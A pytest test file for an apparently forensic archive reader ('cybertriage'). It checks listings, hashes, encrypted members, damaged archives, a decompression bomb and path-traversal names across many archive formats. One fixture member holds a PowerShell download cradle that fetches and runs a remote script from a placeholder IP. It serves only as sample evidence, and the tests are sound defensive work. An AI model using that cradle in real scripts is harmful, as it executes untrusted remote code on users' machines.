"""Archives beyond zip (tar, its compressed kinds, single compressed files, 7z, cab, ISO, rar), read in one pass by
libarchive. The archives are made here by GNU tar, gzip, bzip2, xz, zstd, 7z (p7zip), gcab, genisoimage and cpio; the
rar samples are libarchive's own test files (tests/data/artefacts/archives/SOURCE.md). Expected listings come
from `tar -tf`, `7z l -slt`, `cpio -t` and `lsar` (unar), expected bytes from `sha256sum` over what `tar -x`, `7z x`,
`gzip -dc`… and `unar` extract: none of them is libarchive."""

from __future__ import annotations

import datetime as dt
import hashlib
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from cybertriage.evidence.base import BytesContent, Content, EvidenceObject
from cybertriage.evidence.containers import ContainerError, ContainerLimits, StreamedArchive, open_container

DATA = Path(__file__).parent.parent / "data" / "artefacts" / "archives"
MTIME = 1_600_000_000  # 2020-09-13T12:26:40Z: the members' times, an hour apart
MEMBERS = {  # path in the tree → bytes
    "docs/note.txt": b"meeting at noon\n" * 300,
    "docs/deep/data.bin": os.urandom(300_000),
    "tools/run.ps1": b"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\r\n",
    "empty.txt": b"",
}


def _run(*args: str | Path, cwd: Path | None = None, stdin: bytes | None = None) -> bytes:
    return subprocess.run([str(a) for a in args], cwd=cwd, input=stdin, capture_output=True, check=True).stdout


def _sha256sum(folder: Path) -> dict[str, str]:
    """relative path → sha256, as `sha256sum` prints it for every regular file under the folder."""
    files = sorted(str(p.relative_to(folder)) for p in folder.rglob("*") if p.is_file() and not p.is_symlink())
    if not files:
        return {}
    lines = _run("sha256sum", "--", *files, cwd=folder).decode().splitlines()
    return {line[66:]: line[:64] for line in lines}


def _tar_names(archive: Path) -> set[str]:
    return {name.rstrip("/") for name in _run("tar", "-tf", archive).decode().splitlines()}


def _7z_names(archive: Path) -> set[str]:
    """Every path `7z l -slt` lists (directories too)."""
    text = _run("7z", "l", "-slt", archive).decode()
    return {line[7:] for line in text.split("----------", 1)[1].splitlines() if line.startswith("Path = ")}


def _extracted(command: Callable[[Path], object], work: Path, name: str) -> dict[str, str]:
    out = work / f"x-{name}"
    out.mkdir()
    command(out)
    return _sha256sum(out)


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    work = tmp_path_factory.mktemp("archives")
    for index, (name, data) in enumerate(MEMBERS.items()):
        (work / "tree" / name).parent.mkdir(parents=True, exist_ok=True)
        (work / "tree" / name).write_bytes(data)
        os.utime(work / "tree" / name, (MTIME + index * 3600, MTIME + index * 3600))
    return work


def _pack(work: Path, kind: str) -> tuple[Path, set[str], dict[str, str]]:
    """The tree packed as `kind`; the names the packer's own lister gives and the sha256 of what it extracts."""
    tree = work / "tree"
    names = sorted(MEMBERS)
    archive = work / f"pack.{kind}"
    if kind.startswith("tar"):
        flag = {"tar": [], "tar.gz": ["-z"], "tar.bz2": ["-j"], "tar.xz": ["-J"], "tar.zst": ["--zstd"]}[kind]
        _run("tar", "-c", *flag, "-f", archive, "docs", "tools", "empty.txt", cwd=tree)
        return archive, _tar_names(archive), _extracted(lambda out: _run("tar", "-x", *flag, "-f", archive, "-C", out),
                                                        work, kind)
    if kind == "cpio":  # GNU cpio's newc format, its own listing (-t) and extraction (-i)
        listing = _run("find", "docs", "tools", "empty.txt", cwd=tree)
        archive.write_bytes(_run("cpio", "-o", "--quiet", "-H", "newc", cwd=tree, stdin=listing))
        names = set(_run("cpio", "-it", "--quiet", stdin=archive.read_bytes()).decode().splitlines())
        return archive, names, _extracted(lambda out: _run("cpio", "-idm", "--quiet", cwd=out, stdin=archive.read_bytes()),
                                          work, kind)
    if kind == "7z":
        _run("7z", "a", "-bso0", archive, "docs", "tools", "empty.txt", cwd=tree)
    elif kind == "cab":  # gcab keeps the paths it is given, no folders of their own
        _run("gcab", "-c", archive, *names, cwd=tree)
    elif kind == "iso":  # Rock Ridge and Joliet names, as 7z and libarchive read them
        _run("genisoimage", "-quiet", "-R", "-J", "-o", archive, tree)
    return archive, _7z_names(archive), _extracted(lambda out: _run("7z", "x", "-bso0", f"-o{out}", archive), work, kind)


def _read(content: Content) -> bytes:
    return b"".join(content.chunks())


def _walk(path: Path, limits: ContainerLimits | None = None) -> tuple[StreamedArchive, list[EvidenceObject]]:
    holder = EvidenceObject(path=f"/evidence/{path.name}", name=path.name, size=path.stat().st_size)
    archive = open_container(BytesContent(path.read_bytes()), holder.ref, limits or ContainerLimits())
    assert isinstance(archive, StreamedArchive)
    return archive, list(archive.objects(holder))


@pytest.mark.parametrize("kind", ["tar", "tar.gz", "tar.bz2", "tar.xz", "tar.zst", "7z", "cab", "iso", "cpio"])
def test_members_and_their_bytes_are_the_packers_own(tree: Path, kind: str) -> None:
    archive_path, names, hashes = _pack(tree, kind)
    archive, found = _walk(archive_path)
    assert archive.stopped is None
    prefix = f"/evidence/{archive_path.name}!"
    assert {obj.path.removeprefix(prefix) for obj in found} == names
    assert all(obj.path.startswith(prefix) for obj in found)
    files = {obj.path.removeprefix(prefix): obj for obj in found if obj.kind == "file"}
    assert {name: hashlib.sha256(_read(obj.content)).hexdigest() for name, obj in files.items() if obj.content} == hashes
    assert {name: obj.size for name, obj in files.items()} == {name: len(MEMBERS[name]) for name in hashes}
    for obj in files.values():  # read back by ref, as `extract` and the viewer do
        assert hashlib.sha256(_read(archive.open(obj.ref))).hexdigest() == hashes[obj.ref.path]
    assert {obj.path.removeprefix(prefix) for obj in found if obj.kind == "directory"} == names - set(hashes)
    if kind != "cab":  # a cabinet keeps local time, in two-second steps
        stamps = {name: dt.datetime.fromtimestamp(MTIME + i * 3600, dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
                  for i, name in enumerate(MEMBERS)}
        assert {name: obj.mtime for name, obj in files.items()} == {name: stamps[name] for name in files}


@pytest.mark.parametrize(("compressor", "suffix"), [("gzip", ".gz"), ("bzip2", ".bz2"), ("xz", ".xz"), ("zstd", ".zst")])
def test_a_single_compressed_file_is_one_member_named_without_its_suffix(tree: Path, compressor: str, suffix: str) -> None:
    original = tree / "tree" / "docs" / "note.txt"
    packed = tree / f"note.txt{suffix}"
    packed.write_bytes(_run(compressor, "-c", original))
    expected = hashlib.sha256(_run(compressor, "-dc", packed)).hexdigest()
    archive, found = _walk(packed)
    assert archive.single and archive.stopped is None
    assert [(obj.path, obj.name, obj.size) for obj in found] == [(f"/evidence/{packed.name}!note.txt", "note.txt",
                                                                   original.stat().st_size)]
    assert hashlib.sha256(_read(found[0].content)).hexdigest() == expected
    assert hashlib.sha256(_read(archive.open(found[0].ref))).hexdigest() == expected


def test_a_large_member_is_spooled_to_a_private_file_with_the_same_bytes(tree: Path) -> None:
    archive_path, _, hashes = _pack(tree, "tar.gz") if not (tree / "pack.tar.gz").exists() else (
        tree / "pack.tar.gz", set(), _sha256sum(tree / "x-tar.gz"))
    _, found = _walk(archive_path, ContainerLimits(in_memory_limit=1000))
    spooled = [obj for obj in found if obj.content is not None and not isinstance(obj.content, BytesContent)]
    assert {obj.ref.path for obj in spooled} == {"docs/note.txt", "docs/deep/data.bin"}
    for obj in spooled:
        assert hashlib.sha256(_read(obj.content)).hexdigest() == hashes[obj.ref.path]
        assert obj.content.read_at(4000, 10) == MEMBERS[obj.ref.path][4000:4010]


def _lsar(archive: Path) -> dict[str, str]:
    """name → flags (D directory, L link, E encrypted), from `lsar -l`'s table (a link's name without its target)."""
    rows = [line.split(maxsplit=7) for line in _run("lsar", "-l", archive).decode().splitlines()]
    return {row[7].split(" -> ")[0].rstrip("/"): row[1] for row in rows if len(row) == 8 and row[0][:-1].isdigit()}


def test_rar4_and_rar5_members_are_unar_s(tmp_path: Path) -> None:
    for sample in ("rar4.rar", "rar5-multiple-files.rar"):
        listing = _lsar(DATA / sample)
        out = tmp_path / sample
        _run("unar", "-q", "-D", "-o", out, DATA / sample)
        archive, found = _walk(DATA / sample)
        assert archive.stopped is None
        kinds = {"D": "directory", "L": "link"}
        assert {obj.ref.path: obj.kind for obj in found} == {
            name: next((kinds[f] for f in flags if f in kinds), "file") for name, flags in listing.items()}
        assert {obj.ref.path: hashlib.sha256(_read(obj.content)).hexdigest() for obj in found if obj.content} == \
            _sha256sum(out)


def test_encrypted_members_and_headers_are_said_not_examined(tree: Path) -> None:
    secret = tree / "tree" / "tools" / "run.ps1"
    locked = tree / "locked.7z"
    _run("7z", "a", "-bso0", "-pinfected", locked, secret)
    hidden = tree / "hidden.7z"
    _run("7z", "a", "-bso0", "-pinfected", "-mhe=on", hidden, secret)
    _, found = _walk(locked)
    assert [(obj.ref.path, obj.content, obj.unreadable) for obj in found] == [("run.ps1", None, "encrypted: not examined")]
    with pytest.raises(ContainerError, match="encrypted: not examined"):
        _walk(hidden)
    with pytest.raises(ContainerError, match="encrypted: not examined"):
        _walk(DATA / "rar5-encrypted-filenames.rar")
    flags = {name: "E" in flags for name, flags in _lsar(DATA / "rar4-encrypted.rar").items()}
    _, found = _walk(DATA / "rar4-encrypted.rar")
    assert {obj.ref.path: obj.unreadable == "encrypted: not examined" for obj in found} == flags
    assert all((obj.content is None) == flags[obj.ref.path] for obj in found)


def test_a_member_continued_in_a_missing_volume_is_said_incomplete() -> None:
    archive, found = _walk(DATA / "rar5-multiarchive.part01.rar")
    assert [(obj.content, (obj.unreadable or "").startswith("incomplete member: 0 of its 144608 bytes")) for obj in found] \
        == [(None, True)]


def test_truncated_and_corrupt_archives_give_what_was_read_and_why(tree: Path) -> None:
    for kind in ("tar", "tar.gz", "tar.xz", "7z", "cab", "iso"):
        archive_path = tree / f"pack.{kind}"
        if not archive_path.exists():
            _pack(tree, kind)
        data = archive_path.read_bytes()
        whole = _walk(archive_path)[1]
        for name, damaged in (("truncated", data[: len(data) * 2 // 3]), ("corrupt", _flip(data))):
            bad = tree / f"{name}.{kind}"
            bad.write_bytes(damaged)
            try:
                archive, found = _walk(bad)
            except ContainerError as error:
                assert str(error), (kind, name)
                continue
            assert len(found) <= len(whole), (kind, name)
            for obj in found:  # what came out before the damage is what the whole archive holds
                same = next(o for o in whole if o.path.split("!")[1] == obj.path.split("!")[1])
                if obj.content is not None and name == "truncated":  # a plain tar's or ISO's bytes have no checksum
                    assert _read(obj.content) == _read(same.content), (kind, name, obj.path)
            if len(found) < len(whole) or kind == "tar":
                assert archive.stopped is None or archive.stopped.reason.startswith("damaged"), (kind, name)


def _flip(data: bytes) -> bytes:
    """Every byte of the middle third inverted."""
    third = len(data) // 3
    return data[:third] + bytes(b ^ 0xFF for b in data[third : 2 * third]) + data[2 * third :]


def test_a_tar_symlink_loop_and_traversal_names_are_only_names(tree: Path) -> None:
    work = tree / "loops"
    work.mkdir()
    (work / "a").symlink_to("b")
    (work / "b").symlink_to("a")
    (work / "self").symlink_to(".")
    (work / "evil.txt").write_bytes(b"outside?\n")
    archive_path = tree / "loops.tar"
    _run("tar", "-c", "-P", "-f", archive_path, "--transform=s,^evil,../../evil,", "a", "b", "self", "evil.txt", cwd=work)
    archive, found = _walk(archive_path)
    assert archive.stopped is None
    assert {obj.ref.path: obj.kind for obj in found} == {name: "file" if "evil" in name else "link"
                                                         for name in _tar_names(archive_path)}
    assert {obj.ref.path for obj in found} == {"a", "b", "self", "../../evil.txt"}
    assert _read(next(obj for obj in found if obj.kind == "file").content) == b"outside?\n"
    assert not (tree.parent / "evil.txt").exists()


def test_a_7z_bomb_stops_at_the_ratio_limit(tree: Path) -> None:
    bomb = tree / "bomb.7z"
    _run("7z", "a", "-bso0", "-sizeros.bin", bomb, stdin=bytes(200 * 1024 * 1024))
    archive, found = _walk(bomb)
    assert found == []
    assert archive.stopped is not None and archive.stopped.limit == "ratio"
    assert archive.stopped.member == "zeros.bin" and archive.stopped.inflated > 200 * archive.stopped.packed
    assert archive.stopped.inflated < 200 * 1024 * 1024  # stopped as the bytes came out, not after


def test_limits_on_members_total_size_and_time(tree: Path) -> None:
    archive_path = tree / "pack.tar"
    if not archive_path.exists():
        _pack(tree, "tar")
    archive, found = _walk(archive_path, ContainerLimits(max_members=2))
    assert len(found) == 2 and archive.stopped is not None and archive.stopped.limit == "members"
    archive, found = _walk(archive_path, ContainerLimits(total_limit=100_000))
    assert archive.stopped is not None and archive.stopped.limit == "total"
    assert sum(obj.size for obj in found if obj.content) <= 100_000
    archive, found = _walk(archive_path, ContainerLimits(time_limit=0))
    assert found == [] and archive.stopped is not None and archive.stopped.reason == "timed out"
    archive, found = _walk(archive_path, ContainerLimits(member_limit=1000))
    assert {obj.ref.path for obj in found if obj.unreadable == "member larger than the extraction limit"} == \
        {"docs/note.txt", "docs/deep/data.bin"}


def test_without_libarchive_an_archive_is_said_not_opened(tree: Path) -> None:
    """libarchive-c loads the library named by LIBARCHIVE: one that cannot be loaded stands for a machine without it."""
    archive_path = tree / "pack.tar.gz"
    if not archive_path.exists():
        _pack(tree, "tar.gz")
    script = ("import sys; from cybertriage.evidence.base import BytesContent, ObjectRef\n"
              "from cybertriage.evidence.containers import ContainerError, ContainerLimits, open_container\n"
              "try:\n    open_container(BytesContent(open(sys.argv[1], 'rb').read()), ObjectRef('p'), ContainerLimits())\n"
              "except ContainerError as error:\n    print(error)\n")
    said = subprocess.run([sys.executable, "-c", script, archive_path], capture_output=True, text=True, check=True,
                          env={**os.environ, "LIBARCHIVE": str(tree / "no-such-libarchive.so")}).stdout
    assert said.startswith("gzip not opened: libarchive cannot be loaded ("), said  # told by its signature alone


def test_a_tar_ending_with_a_zip_is_read_back_as_the_tar(tree: Path) -> None:
    """zipfile finds a zip's end record in the last 64 KiB: a tar whose last member is a zip has one too."""
    work = tree / "tar-zip"
    work.mkdir()
    (work / "first.txt").write_bytes(b"the tar's own member\n")
    _run("zip", "-q", "-X", work / "last.zip", work / "first.txt")
    archive_path = tree / "ends-with-zip.tar"
    _run("tar", "-cf", archive_path, "first.txt", "last.zip", cwd=work)
    holder = EvidenceObject(path="/ends-with-zip.tar", name="ends-with-zip.tar", size=archive_path.stat().st_size)
    archive = open_container(BytesContent(archive_path.read_bytes()), holder.ref, ContainerLimits())
    assert isinstance(archive, StreamedArchive)
    found = {obj.ref.path: obj for obj in archive.objects(holder)}
    assert set(found) == _tar_names(archive_path)
    assert _read(archive.open(found["first.txt"].ref)) == b"the tar's own member\n"


def test_members_read_ahead_stop_when_the_reader_does(tmp_path: Path, monkeypatch) -> None:
    """The members are inflated on a thread of their own, ahead of the one examined: a reader that stops after the
    first member (an analyzer's failure, a cancelled scan) stops that thread too, and the archive is not marked as
    stopped early. The member's bytes are what `tar -x` extracts."""
    import threading

    from cybertriage.evidence.containers import streamed

    monkeypatch.setattr(streamed, "AHEAD_MEMBERS", 16)  # the room ahead, smaller than the archive whatever the timing

    folder = tmp_path / "many"
    folder.mkdir()
    for index in range(200):
        (folder / f"m{index:03d}.bin").write_bytes(os.urandom(64 * 1024))
    archive_path = tmp_path / "many.tar.gz"
    _run("tar", "-czf", archive_path, "many", cwd=tmp_path)
    extracted = _extracted(lambda out: _run("tar", "-xzf", archive_path, "-C", out), tmp_path, "many")
    holder = EvidenceObject(path=f"/evidence/{archive_path.name}", name=archive_path.name, size=archive_path.stat().st_size)
    archive = open_container(BytesContent(archive_path.read_bytes()), holder.ref, ContainerLimits())
    assert isinstance(archive, StreamedArchive)
    members = archive.objects(holder)
    first = next(obj for obj in members if obj.content is not None)
    assert hashlib.sha256(_read(first.content)).hexdigest() == extracted[first.ref.path]
    assert any(thread.name == "archive-read-ahead" for thread in threading.enumerate())
    members.close()
    assert not any(thread.name == "archive-read-ahead" for thread in threading.enumerate())
    assert archive.stopped is None and len(archive.members) < 200  # held back by the bound on members ahead


def test_a_large_member_in_a_private_file_does_not_wait_for_the_small_ones_before_it(tmp_path: Path) -> None:
    """Members waiting to be examined are bounded in memory and, apart, in private files: a large member written to
    a file is handed on while small ones still wait (so the next can be inflated meanwhile), and a second large one
    waits until the first is taken."""
    import tempfile
    import threading

    from cybertriage.evidence.containers.streamed import AHEAD_SPOOLED, _Ahead, _FileContent

    def member(name: str, content: Content) -> EvidenceObject:
        found = EvidenceObject(path=name, name=name, size=content.size)
        found.content = content
        return found

    ahead = _Ahead()
    for index in range(10):
        ahead.put(member(f"small{index}", BytesContent(b"x" * 1000)))
    spooled = [member(f"large{index}", _FileContent(tempfile.TemporaryFile(dir=tmp_path), AHEAD_SPOOLED // 2 + 1))
               for index in range(2)]
    first, second = (threading.Thread(target=ahead.put, args=(found,), daemon=True) for found in spooled)
    first.start()
    first.join(5)
    assert not first.is_alive(), "the large member waits for the small ones to be taken"
    second.start()
    second.join(0.5)
    assert second.is_alive(), "two large members' files ahead: past the bound"
    taken = ahead.members()
    assert [next(taken).name for _ in range(11)] == [*(f"small{index}" for index in range(10)), "large0"]
    second.join(5)
    assert not second.is_alive()
    ahead.end()
    assert [found.name for found in taken] == ["large1"]
